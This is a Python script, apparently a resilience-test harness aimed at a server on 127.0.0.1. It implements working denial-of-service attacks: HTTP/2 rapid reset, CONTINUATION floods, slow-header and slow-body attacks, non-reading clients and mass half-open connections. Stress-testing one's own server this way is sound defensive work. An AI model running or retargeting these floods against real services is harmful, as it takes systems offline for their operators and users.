"""A client that means harm, until it is killed.

In: what it does, a port on 127.0.0.1. Out: "ready" once it does it. It stands back for everybody else's processes: what is
measured beside it is what its connections cost, not the processor it takes for itself.

rapid_reset, continuation: HTTP/2; requests taken back at once, and a head that never ends.
slow_heads, slow_bodies: many connections, each sending a byte now and then.
slow_readers: many connections that ask for much and read nothing.
half_open: ten thousand connections that say nothing.
"""

import fcntl
import os
import resource
import selectors
import socket
import ssl
import sys
import termios
import time

HALF_OPEN = 10_000
SLOW = 200
STEP = 0.5
# So many looks without a change.
FULL = 6
STREAMS = 2000
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def head(port: int) -> bytes:
    """GET / of localhost: HPACK's static table, and one literal that is not kept."""
    authority = f"localhost:{port}".encode()
    return bytes([0x82, 0x87, 0x84, 0x01, len(authority)]) + authority


def connect(port: int, protocol: str) -> ssl.SSLSocket:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    plain = socket.socket()
    plain.settimeout(20)
    # Little is on its way to who reads nothing.
    plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16384)
    plain.connect(("127.0.0.1", port))
    plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    connection = context.wrap_socket(plain, server_hostname="localhost")
    if connection.selected_alpn_protocol() != protocol:
        sys.exit(f"{connection.selected_alpn_protocol()} is spoken, not {protocol}")
    return connection


def flood(port: int, words: bytes) -> None:
    """Says it over and over; comes again whenever it is thrown out."""
    told = False
    while True:
        try:
            with connect(port, "h2") as connection:
                if not told:
                    print("ready", flush=True)
                    told = True
                connection.sendall(PREFACE + frame(4, 0, 0, b"") + words)
                # What is answered is read until the other side has enough.
                while connection.recv(65536):
                    pass
        except OSError:
            pass


def rapid_reset(port: int) -> None:
    streams = range(1, 2 * STREAMS, 2)
    resets = (frame(1, 0x5, stream, head(port)) + frame(3, 0, stream, b"\0\0\0\x08") for stream in streams)
    flood(port, b"".join(resets))


def continuation(port: int) -> None:
    field = b"\x00\x05x-abc\x7f\x81\x03" + b"y" * 512
    more = frame(9, 0, 1, field * 30)
    flood(port, frame(1, 0x1, 1, head(port)) + more * 500)


def slow(port: int, first: bytes, rest: bytes) -> None:
    connections = []
    for _ in range(SLOW):
        connection = connect(port, "http/1.1")
        connection.sendall(first)
        connections.append(connection)
    print("ready", flush=True)
    for at in range(sys.maxsize):
        for place, connection in enumerate(connections):
            try:
                connection.sendall(rest[at % len(rest) :][:1])
            except OSError:
                connections[place] = connect(port, "http/1.1")
                connections[place].sendall(first)
        time.sleep(STEP)


def slow_heads(port: int) -> None:
    slow(port, b"POST /mcp HTTP/1.1\r\n", b"X-Slow: a\r\n")


def slow_bodies(port: int) -> None:
    asked = f"POST /mcp HTTP/1.1\r\nHost: localhost:{port}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
    slow(port, asked.encode(), b" ")


def slow_readers(port: int) -> None:
    asked = f"GET /much HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n".encode()
    connections = [connect(port, "http/1.1") for _ in range(SLOW)]
    for connection in connections:
        connection.sendall(asked)
    # Until there is no more room on the way, what comes is a download like any.
    unread, looks = [], 0
    while looks < FULL:
        now = [fcntl.ioctl(connection, termios.FIONREAD, b"\0" * 4) for connection in connections]
        unread, looks = now, looks + 1 if now == unread else 0
        time.sleep(STEP)
    print("ready", flush=True)
    while True:
        time.sleep(STEP)


def half_open(port: int) -> None:
    under_way = selectors.DefaultSelector()
    connections = []
    for _ in range(HALF_OPEN):
        connection = socket.socket()
        connection.setblocking(False)
        connection.connect_ex(("127.0.0.1", port))
        connections.append(connection)
        under_way.register(connection, selectors.EVENT_WRITE)
    stand = 0
    while under_way.get_map():
        for key, _ in under_way.select():
            under_way.unregister(key.fileobj)
            stand += key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0
    if stand < HALF_OPEN:
        sys.exit(f"{stand} of {HALF_OPEN} connections stand")
    print("ready", flush=True)
    while True:
        time.sleep(STEP)


def main() -> None:
    os.nice(10)
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    kinds = [rapid_reset, continuation, slow_heads, slow_bodies, slow_readers, half_open]
    {kind.__name__: kind for kind in kinds}[sys.argv[1]](int(sys.argv[2]))


if __name__ == "__main__":
    main()
